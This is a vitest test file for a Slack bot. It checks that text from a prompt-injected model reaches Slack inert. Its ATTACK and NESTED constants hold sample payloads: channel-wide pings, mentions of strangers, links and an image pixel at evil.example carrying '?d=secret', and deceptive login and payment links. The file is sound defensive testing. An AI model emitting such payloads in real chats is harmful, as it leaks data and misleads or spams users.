/**
 * Model text is data in a Slack chat, on every delivery path: the whole app (Bolt over Socket
 * Mode, the inbox, the agent) with a model that answers with every construct an injected page
 * could make it repeat. What the fake Slack received must hold no live special mention, no live
 * mention of a stranger, no image, and no link Slack would unfurl.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { invalidBlockPayloads } from '../../fakes/slack/block-kit.js';
import type { SlackCall } from '../../fakes/slack/web-api.js';
import { eventBody, freshTs, mention, startSlackRig, type SlackRig } from './setup.js';

const ASKER = 'U0HUMAN1';
const FRIEND = 'U0FRIEND1';
const STRANGER = 'U0STRANGER';

/** What an injected model repeats: special mentions, a stranger, the asker, a friend the user named, links, an image. */
const ATTACK =
  `Heads up <!channel> <!here> <!everyone> <!subteam^S0ENG|@eng> and <@${STRANGER}>. ` +
  `Thanks <@${ASKER}>, and <@${FRIEND}> too.\n\n` +
  `Read [the report](https://evil.example/r?d=secret) and https://evil.example/raw?d=secret\n\n` +
  `![chart](https://evil.example/pixel.png?d=secret)\n\n` +
  `Docs: https://docs.example.com/guide`;

let rig: SlackRig;
beforeAll(async () => {
  rig = await startSlackRig({ mode: 'socket', env: { SLACK_UNFURL_DOMAINS: 'example.com.invalid, docs.example.com' } });
});
afterAll(() => rig.close());
beforeEach(() => {
  rig.llm.reset();
  rig.slack.reset();
});
afterEach(() => expect(invalidBlockPayloads(rig.slack)).toEqual([]));

const WRITES = ['chat.postMessage', 'chat.update', 'chat.startStream', 'chat.appendStream', 'chat.stopStream'];
const writes = (): SlackCall[] => rig.slack.calls.filter((c) => WRITES.includes(c.method));
/** Everything a write carried that Slack shows: text, markdown, chunks, blocks. */
const shown = (c: SlackCall) =>
  JSON.stringify([c.args.text, c.args.markdown_text, c.args.chunks, c.args.blocks].filter((x) => x !== undefined));

/** No write carries a live special mention, a live stranger, an image block or an image in markdown. */
function expectInert(calls: SlackCall[]): void {
  expect(calls.length).toBeGreaterThan(0);
  for (const c of calls) {
    const seen = shown(c);
    expect(seen, c.method).not.toMatch(/<!(channel|here|everyone|subteam)/i);
    expect(seen, c.method).not.toContain(`<@${STRANGER}`);
    expect(seen, c.method).not.toMatch(/"type":"image"|!\[/);
  }
}

async function ask(text: string, over: Record<string, unknown> = {}) {
  const before = rig.deliveredCount();
  const event = mention(text, over);
  // Slack retries an event it got no ack for within 3 s (retry_attempt 1, reason timeout); the
  // dedup key makes the retry the same turn. Under load the first ack can miss that window.
  await rig.slack
    .socket!.deliver('events_api', eventBody(event))
    .catch(() =>
      rig.slack.socket!.deliver('events_api', eventBody(event), { retryAttempt: 1, retryReason: 'timeout' }),
    );
  await rig.delivered(before + 1);
  return event;
}

describe('model text in Slack', () => {
  it('streaming: nothing pings but the people in the conversation, and off-list links are never links', async () => {
    rig.llm.script({ text: ATTACK, chunkDelayMs: 5 });
    const event = await ask(`summarise the page, and tell <@${FRIEND}>`);
    const [answer] = rig.slack.threadReplies('C0CHAN1', event.ts);
    expect(answer!.stream?.state).toBe('completed');
    expect(rig.slack.callsTo('chat.appendStream').length).toBeGreaterThan(0);
    expectInert(writes());
    const markdown = answer!.stream!.markdown;
    expect(markdown).toContain('Heads up @channel @here @everyone @eng and @U0STRANGER.');
    expect(markdown).toContain(`Thanks <@${ASKER}>, and <@${FRIEND}> too.`);
    // A stream takes no unfurl flags: links off SLACK_UNFURL_DOMAINS are code, the listed one stays a link.
    expect(markdown).toContain(
      'Read the report (`https://evil.example/r?d=secret`) and `https://evil.example/raw?d=secret`',
    );
    expect(markdown).toContain('chart (`https://evil.example/pixel.png?d=secret`)');
    expect(markdown).toContain('Docs: https://docs.example.com/guide');
    expect(markdown.replace(/`[^`]*`/g, '')).not.toContain('evil.example');
  });

  it('post and update (no streaming): every message goes out inert with unfurling off', async () => {
    rig.slack.disableStreaming();
    rig.llm.script({ text: ATTACK, chunkDelayMs: 5 });
    const event = await ask(`summarise the page, and tell <@${FRIEND}>`);
    const posts = rig.slack.callsTo('chat.postMessage');
    const updates = rig.slack.callsTo('chat.update');
    expect(posts.length + updates.length).toBeGreaterThan(1);
    expectInert([...posts, ...updates]);
    for (const c of [...posts, ...updates]) {
      expect(c.args, c.method).toMatchObject({ unfurl_links: 'false', unfurl_media: 'false' });
    }
    const [answer] = rig.slack.threadReplies('C0CHAN1', event.ts);
    const final = JSON.stringify(answer!.blocks);
    expect(final).toContain(`<@${ASKER}>`);
    expect(final).toContain(`<@${FRIEND}>`);
    expect(final).toContain('@channel');
    // The links stay clickable: unfurling is off for the whole message.
    expect(final).toContain('[the report](https://evil.example/r?d=secret)');
  });

  it('a message may unfurl only when every link in it is on SLACK_UNFURL_DOMAINS', async () => {
    rig.slack.disableStreaming();
    rig.llm.script({ text: 'Docs: https://docs.example.com/guide' });
    await ask('where are the docs?');
    const withLink = () =>
      [...rig.slack.callsTo('chat.postMessage'), ...rig.slack.callsTo('chat.update')].filter((c) =>
        shown(c).includes('docs.example.com'),
      );
    expect(withLink().length).toBeGreaterThan(0);
    for (const c of withLink()) expect(c.args).toMatchObject({ unfurl_links: 'true', unfurl_media: 'true' });

    const mark = rig.slack.calls.length;
    rig.llm.script({ text: 'Docs: https://docs.example.com/guide and https://evil.example/x', chunkDelayMs: 5 });
    await ask('and elsewhere?');
    // The second answer's posts and updates (a slow answer may first try a stream, which Slack
    // refuses here: streams carry no unfurl flags).
    const later = rig.slack.calls
      .slice(mark)
      .filter((c) => ['chat.postMessage', 'chat.update'].includes(c.method) && shown(c).includes('evil.example/x'));
    expect(later.length).toBeGreaterThan(0);
    for (const c of later) expect(c.args).toMatchObject({ unfurl_links: 'false', unfurl_media: 'false' });
  });

  it('the thread remembers its people: a later turn may mention an earlier asker, never a stranger', async () => {
    rig.llm.script({ text: 'Noted.' });
    const first = await ask(`hello, this is for <@${FRIEND}>`);
    const mark = rig.slack.calls.length;
    rig.llm.script({ text: `<@${ASKER}> asked first, <@${FRIEND}> was named, <@${STRANGER}> was not. <!here>` });
    const before = rig.deliveredCount();
    await rig.slack.socket!.deliver(
      'events_api',
      eventBody({
        type: 'message',
        user: 'U0HUMAN2',
        ts: freshTs(),
        thread_ts: first.ts,
        text: 'who was here?',
        channel: 'C0CHAN1',
        channel_type: 'channel',
      }),
    );
    await rig.delivered(before + 1);
    expectInert(writes().filter((c) => rig.slack.calls.indexOf(c) >= mark));
    const answer = rig.slack.threadReplies('C0CHAN1', first.ts).at(-1)!;
    expect(answer.text).toContain(`<@${ASKER}> asked first, <@${FRIEND}> was named, @${STRANGER} was not. @here`);
  });
});

/** Issue 39: mentions hidden in another mention's label, and links whose text names another site. */
const VICTIM = 'U0VICTIM';
const NESTED =
  `Ping <@U0NOTIN|<!here>> and <!subteam^S0TEAM|<!channel>> and <@U0NOTIN|<@${VICTIM}>>.\n\n` +
  'Log in at <https://evil.example/login|https://good.example/login>, pay at ' +
  '[https://good.example/pay](https://evil.example/pay), due <!date^1700000000^{date}^https://evil.example/d|Nov 14>.';

/** No write carries a live mention from a label, a deceptive link or a date's link. */
function expectNothingHidden(calls: SlackCall[]): void {
  expect(calls.length).toBeGreaterThan(0);
  for (const c of calls) {
    const seen = shown(c);
    expect(seen, c.method).not.toMatch(/<!(here|channel)/);
    expect(seen, c.method).not.toMatch(new RegExp(`<@(${VICTIM}|U0NOTIN)`));
    expect(seen, c.method).not.toContain('|https://good.example/login>');
    expect(seen, c.method).not.toContain('[https://good.example/pay](https://evil.example/pay)');
    expect(seen, c.method).not.toContain('evil.example/d');
  }
}

describe('model text in Slack: nested mentions and deceptive links', () => {
  it('streaming: a mention in a label stays text, and the stream shows no deceptive link', async () => {
    rig.llm.script({ text: NESTED, chunkDelayMs: 5 });
    const event = await ask('what is due?');
    expect(rig.slack.callsTo('chat.appendStream').length).toBeGreaterThan(0);
    expectNothingHidden(writes());
    const markdown = rig.slack.threadReplies('C0CHAN1', event.ts)[0]!.stream!.markdown;
    expect(markdown).toContain('due <!date^1700000000^{date}|Nov 14>.');
  });

  it('post and update: the same, and a deceptive link shows its real URL', async () => {
    rig.slack.disableStreaming();
    rig.llm.script({ text: NESTED, chunkDelayMs: 5 });
    const event = await ask('what is due?');
    expect(rig.slack.callsTo('chat.update').length).toBeGreaterThan(0);
    expectNothingHidden([...rig.slack.callsTo('chat.postMessage'), ...rig.slack.callsTo('chat.update')]);
    const final = JSON.stringify(rig.slack.threadReplies('C0CHAN1', event.ts)[0]!.blocks);
    expect(final).toContain('Log in at <https://evil.example/login>, pay at <https://evil.example/pay>');
    expect(final).toContain('due <!date^1700000000^{date}|Nov 14>.');
  });

  it('one finished post (nothing streamed before the reply): the same', async () => {
    // One line opened by a backtick that never closes: the writer holds it all back (it may be
    // code still being written), so the reply goes out as one finished post.
    const held = `\` ${NESTED.replace('\n\n', ' ')}`;
    expect(held.length).toBeLessThan(300);
    rig.llm.script({ text: held, chunkDelayMs: 5 });
    const event = await ask('what is due?');
    expect(rig.slack.callsTo('chat.appendStream')).toEqual([]);
    expect(rig.slack.callsTo('chat.update')).toEqual([]);
    expectNothingHidden(rig.slack.callsTo('chat.postMessage'));
    const final = JSON.stringify(rig.slack.threadReplies('C0CHAN1', event.ts)[0]!.blocks);
    expect(final).toContain('Ping ‹@U0NOTIN|@here> and ‹!subteam^S0TEAM|@channel> and ‹@U0NOTIN|@U0VICTIM>.');
  });
});
